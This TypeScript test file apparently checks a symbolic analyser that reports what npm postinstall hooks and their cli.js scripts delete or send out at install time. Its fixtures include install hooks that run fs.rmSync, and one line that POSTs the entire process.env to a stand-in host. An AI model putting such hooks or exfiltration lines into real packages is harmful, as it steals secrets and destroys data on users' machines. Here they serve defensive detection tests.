import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { symbolicUses } from '../../../../test/symbolic-uses.ts';

/** Commands of a manifest that start `cli.js`, and what is told of what that deletes at install. */
const CASES: readonly { readonly when: string; readonly hook: string; readonly cli: string; readonly says: readonly string[] }[] = [
  { when: 'words stand behind it', hook: 'node cli.js drop a', cli: `take(process.argv[2], process.argv[3]);`, says: ['a'] },
  { when: 'it is a command of the package', hook: 'tool drop a', cli: `const [, , ...all] = process.argv; take(...all);`, says: ['a'] },
  {
    when: 'two hooks start it with other words',
    hook: 'node cli.js drop a && node cli.js drop b',
    cli: `take(...process.argv.slice(2));`,
    says: ['a', 'b'],
  },
  { when: 'a variable is set before it', hook: 'cross-env ACT=drop node cli.js', cli: `take(process.env.ACT, 'a');`, says: ['a'] },
  {
    when: 'a word is a file of the package',
    hook: 'node cli.js lib/plan.json',
    cli: `for (const one of JSON.parse(fs.readFileSync(path.resolve(process.argv[2])))) take(...one);`,
    says: ['c'],
  },
  {
    when: 'it is started in a folder of the package and loads a file of it',
    hook: 'cd lib && node ../cli.js plan.json',
    cli: `require(path.join(process.cwd(), process.argv[2])).forEach(one => take(...one));`,
    says: ['c'],
  },
  {
    when: 'a variable of the shell stands among the words',
    hook: 'node cli.js $ACT',
    cli: `if (process.argv[3] === 'b') fs.rmSync('x');`,
    says: ['x'],
  },
  {
    when: 'words of another script come behind those',
    hook: 'npm run take -- b',
    cli: `if (process.argv[3] === 'b') fs.rmSync('x');`,
    says: ['x'],
  },
  {
    when: 'it is loaded before another file',
    hook: 'node -r ./cli.js index.js drop a',
    cli: `if (process.argv[2] === 'drop') fs.rmSync('x');`,
    says: ['x'],
  },
  {
    when: 'it has gone to another folder',
    hook: 'node cli.js lib/plan.json',
    cli: `process.chdir('/opt'); for (const one of JSON.parse(fs.readFileSync(process.argv[2]))) take(...one);`,
    says: [],
  },
];

describe('what a command hands over to a file that it starts', () => {
  for (const { when, hook, cli, says } of CASES)
    it(`is what that finds when ${when}`, () => {
      const said = symbolicUses({
        'package.json': { name: 'x', bin: { tool: 'cli.js' }, scripts: { postinstall: hook, take: 'node cli.js drop' } },
        'cli.js': `const fs = require('fs'), path = require('path'); const acts = { drop: at => fs.rmSync(at) }; const take = (act, at) => acts[act]?.(at); ${cli}`,
        'lib/plan.json': [['drop', 'c']],
        'index.js': '',
      });
      const deleted = said.flatMap(line => /^install fs\.rmSync\((\w+)\)/.exec(line)?.[1] ?? []);
      assert.deepEqual(deleted, says);
    });

  const told = (files: Readonly<Record<string, string | object>>, hook: string): string[] =>
    symbolicUses({
      'package.json': { name: 'x', scripts: { postinstall: hook, take: 'node cli.js drop' } },
      'plan.json': { live: false },
      ...files,
    });

  it('leaves the rest of the environment as it is', () => {
    const cli = `fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) }); if (Object.keys(process.env).includes('CI')) require('fs').rmSync('x');`;
    const said = told({ 'cli.js': cli }, 'cross-env ACT=1 node cli.js').join();
    assert.match(said, /from process\.env/);
    assert.match(said, /rmSync\(x\)/);
  });

  for (const [when, hook, cli] of [
    ['another command may have changed', 'mv live.json plan.json && node cli.js', ''],
    ['it has changed itself', 'node cli.js', `require('fs').writeFileSync('plan.json', process.env.PLAN);`],
  ] as const)
    it(`takes no file for what it was that ${when}`, () => {
      const read = `${cli} if (JSON.parse(require('fs').readFileSync('plan.json', 'utf8')).live) require('fs').rmSync('x');`;
      assert.ok(told({ 'cli.js': read }, hook).some(line => /rmSync\(x\)/.test(line)));
    });

  it('is not handed to what is started in another folder', () => {
    const cli = `require('child_process').fork(__dirname + '/child.js', [], { cwd: require('os').homedir() });`;
    const child = `if (JSON.parse(require('fs').readFileSync('plan.json', 'utf8')).live) require('fs').rmSync('x');`;
    assert.ok(told({ 'cli.js': cli, 'child.js': child }, 'node cli.js').some(line => /rmSync\(x\)/.test(line)));
  });

  for (const hook of ['yarn take b', "node cli.js 'b'", 'ts-node cli.js -- b'])
    it(`says nothing of words that are handed over otherwise: ${hook}`, () => {
      assert.ok(told({ 'cli.js': `if (process.argv.length > 3) require('fs').rmSync('x');` }, hook).some(line => /rmSync\(x\)/.test(line)));
    });

  it('starts each file once before any is started with something else', () => {
    const files = Object.fromEntries([...'abc'].map(name => [`${name}.js`, `require('fs').rmSync('${name}' + process.argv[2]);`]));
    const hook = [...Array.from({ length: 20 }, (_, at) => `node a.js ${at}`), 'node b.js 1', 'node c.js 1'].join(' && ');
    const said = symbolicUses({ 'package.json': { name: 'x', scripts: { postinstall: hook } }, ...files });
    assert.ok(said.includes('install fs.rmSync(c1)') && said.includes('install fs.rmSync(a*)'));
  });
});
